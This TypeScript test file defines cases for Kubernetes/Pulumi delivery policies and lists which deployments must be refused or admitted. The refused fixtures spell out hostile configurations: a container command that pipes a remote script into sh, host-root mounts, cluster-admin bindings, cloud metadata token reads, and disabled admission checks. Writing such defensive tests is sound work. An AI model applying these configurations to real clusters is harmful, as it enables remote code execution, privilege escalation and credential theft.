import { admission, bent, canary, canaryPlan, namespace, workload } from "../support/delivered";
import { type Properties, unknown } from "../../../policies/values";
import { image, passes, refused, resource, type Case } from "./case";

const objects = "delivery-restrict-objects";
const workloads = "delivery-restrict-workloads";
const admits = "delivery-restrict-admission";
const { parameters, policy, binding } = admission();
const admitted = Object.values(admission());
const { deployment, service } = workload();
const { route, analysis, rollout, subsets } = canary();
const ofCanary = Object.values(admission(canaryPlan));
const pod = "spec.template.spec";
const container = `${pod}.containers[0]`;

/** What a deployer might want to apply besides its services, or in them. */
export const delivery: readonly Case[] = [
  refused(
    { [objects]: "type" },
    "delivery",
    "the cluster for its own account",
    resource("kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding", {
      metadata: { name: "auth-service" },
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
    }),
  ),
  refused(
    { [objects]: "type" },
    "delivery",
    "a webhook that sees every pod",
    resource("kubernetes:admissionregistration.k8s.io/v1:ValidatingWebhookConfiguration", {
      metadata: { name: "look" },
    }),
  ),
  refused(
    { [objects]: "metadata.namespace", [workloads]: "metadata.name" },
    "delivery",
    "a service beside the cluster's own parts",
    ...admitted,
    bent(deployment, "metadata.namespace", "gatekeeper-system"),
  ),
  refused(
    { [objects]: "metadata.namespace", [workloads]: "metadata.name" },
    "delivery",
    "a privileged pod beside the list of what is admitted",
    ...admitted,
    bent(
      bent(deployment, "metadata.namespace", "airlock-system"),
      `${container}.securityContext.privileged`,
      true,
    ),
  ),
  refused(
    { [objects]: "metadata.labels.pod-security.kubernetes.io/enforce" },
    "delivery",
    "a namespace for privileged pods",
    bent(namespace(), "metadata.labels", {
      ...(namespace().properties.metadata as { labels: object }).labels,
      "pod-security.kubernetes.io/enforce": "privileged",
    }),
  ),
  refused(
    { [objects]: "context, kubeconfig" },
    "delivery",
    "another cluster, with the key in the state",
    resource("pulumi:providers:kubernetes", { context: "contoso-dev", kubeconfig: "apiVersion: v1" }),
  ),
  refused(
    { [objects]: "cluster" },
    "delivery",
    "another cluster under the right context",
    resource("pulumi:providers:kubernetes", { context: "contoso-prod", cluster: "contoso-dev" }),
  ),
  refused(
    { "image-require-digest": `${container}.image`, [workloads]: `${container}.image` },
    "canary",
    "a canary by tag",
    ...ofCanary,
    bent(rollout, `${container}.image`, "contosopocstaging.azurecr.io/iam/auth-service:1.4.0"),
  ),
  refused(
    { "image-require-own-registry": `${container}.image`, [workloads]: `${container}.image` },
    "delivery",
    "a service of the environment before",
    ...admitted,
    bent(deployment, `${container}.image`, image("staging")),
  ),
  refused(
    { [workloads]: `${container}.command` },
    "delivery",
    "a promoted image that is told to be a shell",
    ...admitted,
    bent(deployment, `${container}.command`, ["sh", "-c", "curl -s https://example.com/run | sh"]),
  ),
  refused(
    { [workloads]: `${pod}.hostPID, ${pod}.volumes` },
    "delivery",
    "a promoted image with its node's disk",
    ...admitted,
    bent(bent(deployment, `${pod}.hostPID`, true), `${pod}.volumes`, [
      { name: "disk", hostPath: { path: "/" } },
    ]),
  ),
  refused(
    { [workloads]: `${container}.env` },
    "delivery",
    "a promoted image that reads another's Secret",
    ...admitted,
    bent(deployment, `${container}.env`, [
      { name: "KEY", valueFrom: { secretKeyRef: { name: "payments", key: "key" } } },
    ]),
  ),
  refused(
    { [objects]: "metadata.namespace" },
    "delivery",
    "a program in a ConfigMap",
    resource("kubernetes:core/v1:ConfigMap", {
      metadata: { name: "program", namespace: "iam" },
      binaryData: { evil: "f0VMRg==" },
    }),
  ),
  refused(
    { [workloads]: "spec.externalIPs" },
    "delivery",
    "an address that is somebody else's",
    bent(service, "spec.externalIPs", ["10.0.0.10"]),
  ),
  refused(
    { [workloads]: "spec.hosts[0]" },
    "canary",
    "a route for another team's host",
    bent(route, "spec.hosts", ["payments.pay.svc.cluster.local"]),
  ),
  refused(
    { [workloads]: "spec.http[0].mirror" },
    "canary",
    "a copy of all requests, where Argo writes",
    bent(route, "spec.http[0].mirror", { host: "look.elsewhere.svc.cluster.local" }),
  ),
  refused(
    { [workloads]: "spec.strategy.canary.trafficRouting.istio.virtualService.name" },
    "canary",
    "another namespace's route, written by Argo's controller",
    ...ofCanary,
    bent(rollout, "spec.strategy.canary.trafficRouting.istio.virtualService.name", "other.pay"),
  ),
  refused(
    {
      [workloads]: "spec.metrics[2].provider.web.url, spec.metrics[2].provider.web.jsonPath",
    },
    "canary",
    "an analysis that reads what its namespace can't",
    bent(
      bent(analysis, "spec.metrics[2].provider.web.url", "http://169.254.169.254/metadata/identity"),
      "spec.metrics[2].provider.web.jsonPath",
      "{$}",
    ),
  ),
  refused(
    { [admits]: "spec.validations[0].expression" },
    "delivery",
    "an admission policy that says true",
    bent(policy, "spec.validations[0].expression", "true"),
  ),
  refused(
    { [admits]: "spec.paramRef.parameterNotFoundAction" },
    "delivery",
    "a binding without its list",
    bent(binding, "spec.paramRef.parameterNotFoundAction", "Allow"),
  ),
  refused(
    { [admits]: "data.injected" },
    "delivery",
    "a container name that excuses any tag",
    bent(parameters, "data.injected", "auth-service=contosoprod.azurecr.io/iam/auth-service"),
  ),
  refused(
    { [admits]: "data.images" },
    "delivery",
    "a list with an image of the environment before",
    bent(parameters, "data.images", `${image("prod")}\n${image("staging")}`),
  ),
  refused({ [admits]: "ignoreChanges" }, "delivery", "a list that nobody brings back", {
    ...parameters,
    ignoreChanges: ["data"],
  }),
  refused(
    { "delivery-require-admission": "dependsOn" },
    "delivery",
    "a service without the policy, which the engine then deletes",
    deployment,
    ...admitted,
  ),
  passes(
    "delivery",
    "a service with all that it needs, in its own cluster",
    resource("pulumi:providers:kubernetes", { context: "contoso-prod", enableServerSideApply: "true" }),
    namespace(),
    ...admitted,
    ...Object.values(workload()),
  ),
  passes(
    "canary",
    "a canary with its routes and what it is judged by",
    ...ofCanary,
    ...Object.values(canary()),
  ),
  passes(
    "canary",
    "a route in which Argo's controller has written",
    bent(route, "spec.http", [
      {
        name: "x-canary",
        match: [{ headers: { "x-canary": { exact: "true" } } }],
        route: [
          { destination: { host: "auth-service.iam.svc.cluster.local", subset: "canary" }, weight: 100 },
        ],
      },
      {
        name: "primary",
        route: [
          { destination: { host: "auth-service", subset: "stable" }, weight: 90 },
          { destination: { host: "auth-service", subset: "canary" }, weight: 10 },
        ],
      },
    ]),
    bent(subsets, "spec.subsets[1].labels.rollouts-pod-template-hash", "5d8f6c9b7"),
  ),
  passes(
    "delivery",
    "another version for people",
    bent(service, "metadata.annotations", {
      "airlock.dev/repository": "iam/auth-service",
      "airlock.dev/version": "2.0.0",
      "pulumi.com/skipAwait": "true",
    }),
  ),
  passes("delivery", "what is admitted", ...admitted),
  passes(
    "delivery",
    "a list with its rollback window",
    bent(parameters, "data.images", [image("prod"), image("prod", "iam/login")].sort().join("\n")),
  ),
  passes(
    "delivery",
    "what was promoted, read from the environment's stack",
    resource("pulumi:providers:pulumi", {}),
    resource("pulumi:pulumi:StackReference", { name: "organization/contoso/prod" }),
    resource("airlock:index:Workload", {}, { custom: false }),
  ),
  passes(
    "canary",
    "its own cluster, in which lists change in place",
    resource("pulumi:providers:kubernetes", {
      ...{ context: "contoso-poc-staging-aks", enableServerSideApply: "true", version: "4.34.2" },
      enableConfigMapMutable: "true",
    }),
  ),
  passes("delivery", "a namespace of the mesh, for pods that can do nothing to their node", namespace()),
  passes(
    "delivery",
    "a namespace for the list, in which no pod could do anything either",
    admission().namespace,
  ),
  passes("delivery", "a binding of a policy that isn't made yet", {
    ...binding,
    properties: {
      ...binding.properties,
      spec: { ...(binding.properties.spec as Properties), policyName: unknown },
    },
  }),
  passes("delivery", "a list on which nothing stands yet", bent(parameters, "data.images", "")),
  passes(
    "canary",
    "a canary's service, which Argo's controller has pointed at its pods",
    bent(canary().canaryService, "spec.selector.rollouts-pod-template-hash", "5d8f6c9b7"),
  ),
  passes("canary", "a Rollout as the component makes it", ...ofCanary, rollout),
  passes("delivery", "a service as the component makes it", service),
  passes("canary", "measurements of the configured Prometheus and of the canary's health", analysis),
  passes(
    "delivery",
    "a manifest that says its kind",
    bent(bent(service, "apiVersion", "v1"), "kind", "Service"),
  ),
];
